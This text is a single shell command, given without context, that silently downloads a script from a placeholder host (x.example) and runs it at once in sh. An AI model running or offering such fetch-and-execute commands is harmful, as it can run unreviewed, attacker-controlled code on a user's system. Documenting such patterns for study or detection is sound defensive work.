sh <(curl -s http://x.example/s)
